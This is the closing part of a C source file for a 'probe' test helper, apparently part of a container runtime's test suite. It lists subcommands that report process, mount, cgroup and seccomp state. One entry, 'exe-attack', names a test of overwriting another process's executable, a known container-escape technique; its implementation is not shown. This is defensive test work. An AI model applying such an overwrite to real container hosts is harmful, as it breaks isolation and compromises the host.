	{ "rlimit", 1, do_rlimit, "NAME: rlimit.NAME=SOFT HARD" },
	{ "umask", 0, do_umask, "umask=0022" },
	{ "cwd", 0, do_cwd, "cwd=/" },
	{ "env", 1, do_env, "NAME: env.NAME=value or env.NAME.unset=1" },
	{ "environ", 0, do_environ, "environ=K=V for each variable" },
	{ "argv", -1, do_argv, "ARGS…: argv.N=arg for the whole command line, argc=N" },
	{ "hostname", 0, do_hostname, "hostname=…" },
	{ "domainname", 0, do_domainname, "domainname=…" },
	{ "pid", 0, do_pid, "pid=N ppid=N" },
	{ "oom", 0, do_oom, "oom_score_adj=N" },
	{ "personality", 0, do_personality, "personality=0x0" },
	{ "mountinfo", 0, do_mountinfo, "mount=POINT type= opts= super= prop= src= root=" },
	{ "timens", 0, do_timens, "monotonic=S boottime=S" },
	{ "exit", 1, do_exit, "N: exit with status N" },
	{ "kill-self", 1, do_kill_self, "SIG: die by signal SIG" },
	{ "sleep", 1, do_sleep, "SECONDS" },
	{ "wait-signal", 0, do_wait_signal, "prints ready=1, then signal=N for the first signal" },
	{ "stdio", 0, do_stdio, "fd.0= fd.1= fd.2= (target or closed)" },
	{ "fds", 0, do_fds, "fd.N=target for every open fd" },
	{ "write", 2, do_write, "PATH TEXT: write.PATH=ok" },
	{ "read", 1, do_read, "PATH: read.PATH=first line" },
	{ "stat", 1, do_stat, "PATH: stat.PATH=TYPE MODE UID GID MAJ:MIN" },
	{ "readlink", 1, do_readlink, "PATH: readlink.PATH=target" },
	{ "sysctl", 1, do_sysctl, "NAME: sysctl.NAME=value" },
	{ "cgroup", 0, do_cgroup, "cgroup=line of /proc/self/cgroup" },
	{ "echo", 1, do_echo, "TEXT: prints TEXT" },
	{ "stderr", 1, do_stderr, "TEXT: prints TEXT on stderr" },
	{ "console-recv", 2, do_console_recv,
	  "SOCK TEXT: take a pty master, type TEXT, print console=" },
	{ "notify", 1, do_notify, "MSG: send MSG (\\n: newline) to $NOTIFY_SOCKET, notify=ok" },
	{ "notify-recv", 2, do_notify_recv, "PATH N: receive N datagrams at PATH, notify=LINE" },
	{ "syscall", 3, do_syscall, "NAME A0 A1: syscall.NAME=result or error ERRNO" },
	{ "mkdir32", 1, do_mkdir32, "PATH: mkdir through the i386 ABI (x86_64 only), mkdir32=" },
	{ "enosys", -1, do_enosys, "NAMES CMD...: run CMD with the syscalls NAMES failing ENOSYS" },
	{ "seccomp-agent", 2, do_seccomp_agent, "SOCK OUT: a NOTIFY agent answering ENOTTY" },
	{ "exe-attack", 1, do_exe_attack,
	  "SECONDS: hold a non-probe's exe, list its dir fds, then write it" },
	{ NULL, 0, NULL, NULL },
};

static int usage(void)
{
	const struct subcmd *c;

	fprintf(stderr, "usage: probe SUBCOMMAND [ARGS]... [SUBCOMMAND [ARGS]...]...\n");
	for (c = subcmds; c->name; c++)
		fprintf(stderr, "  %-12s %s\n", c->name, c->help);
	return 2;
}

static const struct subcmd *find_subcmd(const char *name)
{
	const struct subcmd *c;

	for (c = subcmds; c->name; c++) {
		if (strcmp(c->name, name) == 0)
			return c;
	}
	return NULL;
}

int main(int argc, char **argv)
{
	int i = 1, rc;

	main_argv = argv;
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc < 2)
		return usage();
	while (i < argc) {
		const struct subcmd *c = find_subcmd(argv[i]);

		if (!c) {
			fprintf(stderr, "probe: unknown subcommand %s\n", argv[i]);
			return usage();
		}
		if (c->nargs > 0 && i + c->nargs >= argc) {
			fprintf(stderr, "probe: %s needs %d argument(s)\n", c->name, c->nargs);
			return 2;
		}
		rc = c->fn(argv + i + 1);
		if (rc)
			return rc;
		i += c->nargs < 0 ? argc - i : 1 + c->nargs;
	}
	return 0;
}
